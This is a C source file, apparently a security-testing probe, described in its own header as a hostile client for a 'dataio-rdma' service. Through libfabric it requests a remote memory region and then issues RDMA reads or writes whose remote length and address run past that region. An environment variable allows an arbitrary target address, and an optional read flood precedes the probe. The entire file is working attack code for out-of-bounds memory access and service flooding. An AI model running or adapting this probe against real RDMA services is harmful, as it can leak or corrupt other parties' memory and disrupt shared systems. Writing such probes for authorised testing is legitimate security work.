/* Standalone hostile dataio-rdma client: fi_writemsg / fi_readmsg whose
 * remote length differs from the local one (public libfabric API). */
#define _GNU_SOURCE
#include <rdma/fabric.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_rma.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_errno.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <poll.h>

static int rd(int fd, void *b, size_t n) { size_t g=0; while (g<n) { ssize_t r=read(fd,(char*)b+g,n-g); if (r<=0) return -1; g+=r; } return 0; }
#define CK(x) do { int _r = (x); if (_r) { fprintf(stderr, "%s: %d %s\n", #x, _r, fi_strerror(-_r)); exit(2);} } while (0)

int main(int argc, char **argv) {
    /* probe HOST PORT TOKEN MODE OFFSET_FROM_END RLEN LOCALLEN */
    const char *host = argv[1]; int port = atoi(argv[2]); const char *token = argv[3];
    const char *mode = argv[4]; long long from_end = atoll(argv[5]);
    uint64_t rlen = strtoull(argv[6], 0, 0); size_t llen = strtoull(argv[7], 0, 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)}; inet_pton(AF_INET, host, &sa.sin_addr);
    if (connect(s, (void*)&sa, sizeof sa)) { perror("connect"); return 2; }
    unsigned char hello[600]; memcpy(hello, "DIORDMA\x01", 8); uint16_t tl = strlen(token); memcpy(hello+8, &tl, 2); memcpy(hello+10, token, tl);
    write(s, hello, 10+tl);
    unsigned char m[9]; rd(s, m, 9); if (m[8] != 0) { fprintf(stderr, "refused %d\n", m[8]); return 2; }
    uint16_t l; char prov[256]={0}; rd(s,&l,2); rd(s,prov,l);
    uint32_t fmt; rd(s,&fmt,4); unsigned char addr[1024]; rd(s,&l,2); uint16_t alen=l; rd(s,addr,alen);
    uint64_t size, base, key; uint8_t access; rd(s,&size,8); rd(s,&base,8); rd(s,&key,8); rd(s,&access,1);
    fprintf(stderr, "offer: prov=%s size=%lu base=%#lx key=%#lx access=%u\n", prov, size, base, key, access);

    struct fi_info *hints = fi_allocinfo(), *info;
    hints->caps = FI_RMA|FI_READ|FI_WRITE|FI_REMOTE_READ|FI_REMOTE_WRITE; hints->ep_attr->type = FI_EP_RDM;
    hints->mode = FI_CONTEXT|FI_CONTEXT2; hints->domain_attr->mr_mode = FI_MR_LOCAL|FI_MR_VIRT_ADDR|FI_MR_ALLOCATED|FI_MR_PROV_KEY|FI_MR_ENDPOINT;
    hints->fabric_attr->prov_name = strdup(prov);
    CK(fi_getinfo(FI_VERSION(1,17), host, NULL, 0, hints, &info));
    struct fid_fabric *fab; struct fid_domain *dom; struct fid_av *av; struct fid_cq *cq; struct fid_ep *ep;
    CK(fi_fabric(info->fabric_attr, &fab, NULL)); CK(fi_domain(fab, info, &dom, NULL));
    struct fi_av_attr aa = {.type = FI_AV_TABLE}; CK(fi_av_open(dom, &aa, &av, NULL));
    struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE}; CK(fi_cq_open(dom, &ca, &cq, NULL));
    CK(fi_endpoint(dom, info, &ep, NULL)); CK(fi_ep_bind(ep, &av->fid, 0)); CK(fi_ep_bind(ep, &cq->fid, FI_TRANSMIT|FI_RECV)); CK(fi_enable(ep));
    fi_addr_t peer; if (fi_av_insert(av, addr, 1, &peer, 0, NULL) != 1) { fprintf(stderr, "av_insert\n"); return 2; }
    fprintf(stderr, "mr_mode=%#x\n", info->domain_attr->mr_mode);

    unsigned char *buf = calloc(1, llen + 4096); memset(buf, 'A', llen);
    struct iovec iov = {.iov_base = buf, .iov_len = llen}; void *desc = NULL;
    struct fi_rma_iov rma = {.addr = base + size - from_end, .len = rlen, .key = key};
    if (getenv("RADDR")) rma.addr = strtoull(getenv("RADDR"), 0, 0);
    struct fi_context2 ctx;
    struct fi_msg_rma msg = {.msg_iov = &iov, .desc = &desc, .iov_count = 1, .addr = peer, .rma_iov = &rma, .rma_iov_count = 1, .context = &ctx};
    ssize_t rc; struct fi_cq_entry tmp;
    int flood = getenv("FLOOD") ? atoi(getenv("FLOOD")) : 0; size_t fl = getenv("FLOODLEN") ? atoi(getenv("FLOODLEN")) : 4096;
    unsigned char *fbuf = malloc(fl); static struct fi_context2 fctx[100000]; int posted = 0;
    for (int i = 0; i < flood; i++) {
        for (int t = 0; t < 20000; t++) {
            rc = fi_read(ep, fbuf, fl, NULL, peer, base + (i * 7919 % 1000) * 64, key, &fctx[i]);
            if (rc != -FI_EAGAIN) break;
            if (posted == 0) { fi_cq_read(cq, &tmp, 1); usleep(100); } else break;
        }
        if (rc) break;
        posted++;
    }
    fprintf(stderr, "flood: posted %d reads of %zu bytes (last rc %zd)\n", posted, fl, rc);
    for (int i = 0; i < 5000; i++) {
        rc = !strcmp(mode, "write") ? fi_writemsg(ep, &msg, FI_COMPLETION) : fi_readmsg(ep, &msg, FI_COMPLETION);
        if (rc != -FI_EAGAIN) break;
        fi_cq_read(cq, &tmp, 1); usleep(1000);
    }
    fprintf(stderr, "post %s raddr=size-%lld rlen=%#lx llen=%zu: %zd\n", mode, from_end, rlen, llen, rc);
    struct fi_cq_entry ent; int done = 0;
    for (int i = 0; i < 3000 && !done; i++) {
        ssize_t n = fi_cq_read(cq, &ent, 1);
        if (n == 1) { if (ent.op_context == &ctx) { fprintf(stderr, "completion OK (after %d flood completions)\n", i); done = 1; } else { i = i > 10 ? i - 1 : i; } }
        else if (n == -FI_EAVAIL) { struct fi_cq_err_entry e = {0}; fi_cq_readerr(cq, &e, 0); fprintf(stderr, "completion error %d (%s)\n", e.err, fi_strerror(e.err)); done = 1; }
        else usleep(1000);
    }
    if (!done) fprintf(stderr, "no completion in 3s\n");
    if (!strcmp(mode, "read")) { size_t nz=0; for (size_t i=0;i<llen;i++) nz += buf[i] != 'A'; fprintf(stderr, "read buffer: %zu bytes changed; first bytes %02x %02x %02x %02x\n", nz, buf[0],buf[1],buf[2],buf[3]); }
    return 0;
}
